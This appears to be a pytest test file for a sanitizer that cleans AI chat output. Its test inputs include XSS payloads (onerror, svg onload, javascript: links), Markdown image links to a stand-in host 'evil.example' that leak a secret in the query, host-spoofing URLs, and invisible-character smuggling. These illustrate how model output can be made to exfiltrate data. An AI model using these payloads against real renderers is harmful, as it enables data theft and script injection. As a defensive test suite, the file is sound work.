"""What a model writes is shown as text: nothing in it is fetched, run or hidden. A Markdown reader is the judge."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from genai_layers.runtime.chat.output import sanitize

HOSTS = ("docs.example.com",)
RENDERERS = (MarkdownIt("commonmark", {"html": True}), MarkdownIt("gfm-like", {"html": True, "linkify": False}))


class _Fetches(HTMLParser):
    """Collects what a browser would fetch, follow or run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("img", "script", "iframe", "svg", "link", "object", "embed", "form", "style", "meta", "video"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (
                name in ("href", "src") and not (value or "").startswith("https://docs.example.com")
            ):
                self.found.append(f"{tag} {name}={value}")


def _fetches(markdown: str) -> list[str]:
    found = []
    for renderer in RENDERERS:
        parser = _Fetches()
        parser.feed(renderer.render(markdown))
        found += parser.found
    return found


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?q=secret)",
        "![a\nb](https://evil.example/)",
        "![a][b]\n\n[b]: https://evil.example/x.png",
        "![b]\n\n[b]:\nhttps://evil.example/x.png",
        "[b]\n\n[b]: /relative",
        "[b\\]]\n\n[b\\]]: /relative",
        "[here](https://evil.example)",
        "[here]( <https://evil.example/a b> 'title' )",
        "[a [b](c) d](https://evil.example)",
        "[a](//evil.example)",
        "[a](/\\evil.example)",
        "[a](\\\\evil.example)",
        "[a](relative/path)",
        "[a](java&#115;cript:alert&#40;1&#41;)",
        "[a](&amp;#106;avascript:alert)",
        "<https://evil.example/>",
        "<javascript:alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<img\nsrc='https://evil.example'>",
        "&lt;img src=https://evil.example&gt;",
        "<!-- a --><script>alert(1)</script>",
        "<a href='https://evil.example'>x</a>",
        "<svg/onload=alert(1)>",
        "~~~\n```\n~~~\n![x](https://evil.example)\n```",
        "````\n```\n````\n![x](https://evil.example)\n```",
        "```\n`````\n![x](https://evil.example)\n```",
        "```\n![x](https://evil.example)",
        "- ```\n  a\n  ```\n![x](https://evil.example)\n```\n```",
        "> ```\n![x](https://evil.example)\n> ```",
        "  ```\n![x](https://evil.example)\n```",
        "```a`b\n![x](https://evil.example)\n```",
        "[x](https://docs.example.com@evil.example)",
        "[x](https://docs.example.com.evil.example)",
        "[x](https://docs.example.com\\@evil.example)",
        "[x](http://docs.example.com/)",
        "[\u200bx\u200b](https://evil.example)",
        "![x]\u2060(https://evil.example)",
        "[x]\u0000(https://evil.example)",
        "[x]&ZeroWidthSpace;(https://evil.example)",
    ],
)
def test_nothing_is_fetched_or_run(text: str) -> None:
    """Whatever the spelling; each of these does something in a browser as it stands, or tried to."""
    assert _fetches(sanitize(text, hosts=HOSTS).text) == []


PIECES = st.lists(
    st.sampled_from(
        [
            "![", "[", "]", "](", "](https://evil.example)", "(", ")", "<", ">", "<img src=x>", "</", "```", "~~~", "`",
            "\n", "\n\n", "    ", "> ", "- ", "1. ", "|", "\\", "https:", "//", "evil.example", "javascript:", "]: ",
            "[a]: https://evil.example", "[a]", "&lt;", "&#40;", "&#93;", "\u200b", "\r", "\t", "a", " ", "!", "'", '"',
            "https://docs.example.com/x", "<!--", "-->", "#", "*",
        ]
    ),
    max_size=24,
).map("".join)  # fmt: skip


@settings(max_examples=600, deadline=None)
@given(text=PIECES)
def test_no_combination_is_fetched_or_run(text: str) -> None:
    """Pieces of Markdown and HTML in any order."""
    assert _fetches(sanitize(text, hosts=HOSTS).text) == []


@pytest.mark.parametrize(
    "text",
    [
        "Leave is **28 days**, see [1].",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "1. first\n2. second\n   - third",
        "if a < b and b > c: 2 < 3",
        "Der Urlaub beträgt 28 Tage – nicht mehr. 你好 \U0001f44d\U0001f3fd می‌خواهم",  # noqa: RUF001
        "```python\nurl = 'https://evil.example'\nprint('<b>')\n```",
        "See [the policy](https://docs.example.com/leave?year=2026#top).",
        "Write to hr@example.com.",
        "Use `x[0]` and f(x)[1].",
    ],
)
def test_an_honest_answer_is_left_alone(text: str) -> None:
    """Formatting, code, other scripts, allowed links."""
    safe = sanitize(text, hosts=HOSTS)

    assert (safe.text, safe.removed) == (text, 0)


def test_what_only_looks_like_a_link_keeps_its_words() -> None:
    """A call on an item of a list is no link once its brackets stand apart."""
    assert sanitize("Use `x[0](y)`.").text == "Use `x[0] (y)`."


@pytest.mark.parametrize("text", ["![](https://evil.example)", "[a](//evil.example)", "<img src=x>"])
def test_the_judge_knows_what_is_fetched(text: str) -> None:
    """The judge of these tests finds something in what is not sanitized."""
    assert _fetches(text) != []


def test_the_address_of_a_cited_document_may_be_named() -> None:
    """The answer may say where something stands."""
    text = "It stands in s3://docs/leave.md, not in s3://other/x."

    assert sanitize(text, sources=["s3://docs/leave.md"]).text == (
        "It stands in s3://docs/leave.md, not in (link removed)"
    )


@pytest.mark.parametrize(
    "secret",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\nabc",
        "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlc2lnbmF0dXJl",
        "AKIA\u200bIOSFODNN7EXAMPLE",
    ],
)
def test_secrets_are_taken_out(secret: str) -> None:
    """Keys and tokens that a document should never have held, in code as well."""
    safe = sanitize(f"```\nkey = {secret}\n```")

    assert "(secret removed)" in safe.text
    assert "EXAMPLE" not in safe.text
    assert "abc" not in safe.text


def test_a_secret_in_character_references_is_taken_out() -> None:
    """A reader's browser would spell it out."""
    assert sanitize("key = AKIA&#73;OSFODNN7EXAMPLE").text == "key = (secret removed)"


@pytest.mark.parametrize(
    "hidden",
    [
        "&#xE0041;",
        "&#8238;",
        "&amp;#8238;",
        "&ZeroWidthSpace;",
        "\U000e0041\U000e0042",
        "\u202e",
        "\u2066",
        "\ufe01",
        "\U000e0101",
        "\x1b[31m",
    ],
)
def test_characters_that_nobody_sees_are_dropped(hidden: str) -> None:
    """Text that only a machine reads carries messages past the reader."""
    safe = sanitize(f"a{hidden}b")

    assert safe.text.replace("[31m", "") == "ab"
    assert safe.removed >= 1
